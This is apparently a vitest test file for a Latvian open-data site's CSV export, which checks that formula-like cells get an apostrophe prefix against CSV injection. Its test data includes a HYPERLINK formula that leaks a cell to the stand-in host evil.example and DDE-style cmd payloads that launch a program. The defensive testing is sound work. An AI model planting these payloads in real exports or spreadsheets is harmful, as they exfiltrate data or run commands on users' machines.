import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { siteDataFiles } from '../../src/lib/data-files';
import { csvText } from '../../src/lib/open-data/csv';
import { assembleSite } from '../../src/lib/site';
import { readContent } from '../helpers/content';

/** Reads a CSV text back the way a program that takes the file would, row by row. */
const readBack = (text: string): string[][] => parse(text, { bom: true });

// Cells a spreadsheet would run as a formula (OWASP "CSV injection"), as an editor might paste them.
const hostile: [name: string, cell: string][] = [
  ['an equals sign', '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'],
  ['a plus sign', "+1+cmd|' /C calc'!A0"],
  ['a minus sign', "-2+3+cmd|' /C calc'!A0"],
  ['an at sign', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a tab', '\t=1+1'],
  ['a carriage return', '\r=1+1'],
  ['a full-width equals sign', '\uFF1D1+1'],
];

// Text that only looks like a formula somewhere inside: it must come back exactly as written.
const ordinary: [name: string, cell: string][] = [
  ['a hyphen inside a word', 'e-pakalpojumi un atvērtie dati'],
  ['a partial date', '2015-07'],
  ['a full date', '2026-11-27'],
  ['a sum written in the middle', 'Budget: 1 + 1 = 2'],
  ['an e-mail address', 'info@mk.gov.lv'],
  ['quotes, a semicolon and Latvian letters', 'Ā; "Ē" — ģērbonis'],
  ['an empty cell', ''],
];

describe('CSV files written by the site', () => {
  it.each(hostile)(
    'keep a cell that starts with %s as text, with an apostrophe in front',
    (_, cell) => {
      const [header, row] = readBack(csvText([['title'], [cell]]));
      expect(header).toEqual(['title']);
      expect(row).toEqual([`'${cell}`]);
    },
  );

  it.each(ordinary)('give back %s unchanged', (_, cell) => {
    expect(
      readBack(
        csvText([
          ['title', 'next'],
          [cell, 'x'],
        ]),
      )[1],
    ).toEqual([cell, 'x']);
  });

  it('start with a byte-order mark and end lines with CRLF', () => {
    const text = csvText([['a'], ['b']]);
    expect(text).toBe('\uFEFFa\r\nb\r\n');
  });

  // The same function the endpoints publish with: commitments.csv of a site whose commitment title is a formula.
  it('include the open data commitments.csv, in every language column of a hostile title', async () => {
    const content = await readContent('tests/fixtures/content');
    const commitment = content.commitments[0]!;
    commitment.data.title = { lv: '=1+1', en: '@SUM(1+1)' };
    commitment.data.description = { lv: '-2+3', en: 'Ordinary e-government text' };
    const site = assembleSite(content);
    const csv = siteDataFiles(site, 'https://example.lv', '/').find(
      (f) => f.name === 'commitments.csv',
    )!;
    const [header, row] = readBack(csv.body) as [string[], string[]];
    const cell = (column: string) => row[header.indexOf(column)];
    expect(cell('title_lv')).toBe("'=1+1");
    expect(cell('title_en')).toBe("'@SUM(1+1)");
    expect(cell('description_lv')).toBe("'-2+3");
    expect(cell('description_en')).toBe('Ordinary e-government text');
    expect(cell('id')).toBe('lv0001');
    expect(cell('period_start')).toBe('');
  });
});
